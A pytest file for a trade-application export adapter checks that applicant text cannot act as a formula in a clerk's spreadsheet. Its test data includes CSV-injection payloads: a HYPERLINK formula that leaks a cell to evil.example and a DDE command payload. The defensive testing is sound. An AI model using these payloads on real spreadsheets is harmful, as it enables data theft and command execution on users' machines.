"""What an applicant writes does not run in a clerk's spreadsheet, whatever it takes for a separator."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from adapters import registry
from adapters.mapping import Mapping, formulas
from schemas.errors import Refused, UsageError
from tests import builders
from tests.mappings import form, submission

OFFICE = "augsburg.gewerbe"
RUNS = [
    '=HYPERLINK("http://evil.example/?x="&B2;"Akte")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1",
    "\n=1",
    "\r=1",
    '=1+1;Muster "GmbH',
    "-Muster",
    " =1+1",
    "\u00a0=1+1",
    '"=1+1',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff20SUM(1)",
    "+49 821 1",
    "-2+3+cmd",
]
"""Texts that a spreadsheet reckons with."""
INSIDE = ["Bäckerei;=1+1", "a,=1+1", "a\t@SUM(1)", "a\n=1+1", 'a;"=1+1";b', "a|-1+1", "a\u2028=1", "x;-5;y"]
"""And such as hold one where another separator begins a cell."""
TEXTS = ["-5,50", "+3", "-", "a=1", "12 - 13", "Muster & Söhne", "1984-11", ""]
STRIPPED = " \u00a0\ufeff\"'\t\n\r"


def augsburg(text: str) -> dict[str, str]:
    """The row of Augsburg's real mapping for a business with this text as its activity."""
    filled = builders.trade_application().form
    fields = tuple(one.model_copy(update={"values": (text,)}) if one.id == "F99000201" else one for one in filled.fields)
    application = builders.trade_application(content=filled.model_copy(update={"fields": fields}))
    mapping = Mapping.load(registry.folder(OFFICE) / "mapping.yaml")
    content = mapping.document(builders.submission(application, OFFICE)).content.decode("iso-8859-15")
    return next(csv.DictReader(io.StringIO(content, newline=""), delimiter=";"))


def runs(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula: an apostrophe before it makes it a text."""
    seen = re.sub(r"\A[\s\ufeff\"]+", "", cell)
    return seen[:1] in tuple("=@\uff1d\uff20") or (
        seen[:1] in tuple("+-\uff0b\uff0d") and not re.fullmatch(r"[+\-\uff0b\uff0d]([0-9]+([.,][0-9]+)?)?\s*", seen)
    )


@pytest.mark.parametrize("text", [*RUNS, *INSIDE])
def test_augsburgs_file_holds_no_formula(text: str) -> None:
    """By the shipped mapping: the text is there, an apostrophe keeps it one, and the mark column says that it was changed."""
    row = augsburg(text)
    assert (runs(row["Taetigkeit"]), "'" in row["Taetigkeit"], row["Umschrift"]) == (False, True, "ja")


@pytest.mark.parametrize("text", TEXTS[:-1])
def test_augsburgs_other_texts_stay(text: str) -> None:
    """What no spreadsheet reckons with is as it was sent, numbers with their sign too."""
    row = augsburg(text)
    assert (row["Taetigkeit"], row["Umschrift"]) == (text, "nein")


@given(st.text(st.sampled_from("=+-@;,|\t\n\r \"'aA1.5\uff1d\ufeff"), max_size=12), st.sampled_from(";,\t|"))
def test_no_separator_makes_one(text: str, separator: str) -> None:
    """Whatever the text, and whatever separator a spreadsheet takes, no cell of the table is a formula."""
    table = io.StringIO(newline="")
    csv.writer(table, delimiter=";").writerow(["x", formulas.prefixed(text), "y"])
    for row in csv.reader(io.StringIO(table.getvalue(), newline=""), delimiter=separator):
        assert [cell for cell in row if runs(cell)] == []
    assert formulas.prefixed(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("target", [{"format": "csv"}, {"format": "fixed"}])
def test_a_page_can_refuse_them(mapping: Any, target: dict[str, str]) -> None:
    """With `formulas: refuse` the message is refused, by the name of the column, and never with the text."""
    loaded = mapping({"a": {"value": "feld('F99000102')", "width": 20}}, target=target | {"formulas": "refuse"})
    for text in ("=1+1", "x;@SUM(1)"):
        with pytest.raises(Refused, match=r"column a of row 1 begins as a formula does\Z"):
            loaded.document(submission(content=form(F99000102=text)))
    assert b"-5,50" in loaded.document(submission(content=form(F99000102="-5,50"))).content


def test_fixed_width_has_a_place_for_it(mapping: Any) -> None:
    """The apostrophe is in the column; where there is no place for it the message is refused, never cut."""
    loaded = mapping({"a": {"value": "feld('F99000102')", "width": 6}}, target={"format": "fixed"})
    assert loaded.document(submission(content=form(F99000102="=1+1"))).content == b"'=1+1 \r\n"
    with pytest.raises(Refused, match="longer than 6"):
        loaded.document(submission(content=form(F99000102="=1+1+1")))


@pytest.mark.parametrize(("old", "said"), [("quote", "is called 'prefix' now"), ("keep", "write 'formulas: refuse'")])
def test_pages_of_an_earlier_version(tmp_path: Path, old: str, said: str) -> None:
    """Their values are refused with the line and what to write."""
    page = {"base": "einreichung", "target": {"format": "csv", "formulas": old}, "document": {"a": "'x'"}}
    (tmp_path / "mapping.yaml").write_text(yaml.safe_dump(page, sort_keys=False), encoding="utf-8")
    with pytest.raises(UsageError) as refused:
        Mapping.load(tmp_path / "mapping.yaml")
    assert (said in refused.value.diagnostics(), "mapping.yaml, line 4" in refused.value.diagnostics()) == (True, True)


@pytest.mark.parametrize(
    ("text", "there"),
    [(" \n", False), (" ", False), ("-1,", True), (',"""', False), ("a-1.1", False), ("\ufeff;", False), ("-1 ", True), ("\t ", True)],
)
def test_long_texts_are_read_once(text: str, there: bool) -> None:
    """A megabyte of what leads up to a formula is told at once: were a run of it looked at from each place, it would take days."""
    assert formulas.has(text * (1_000_000 // len(text))) is there
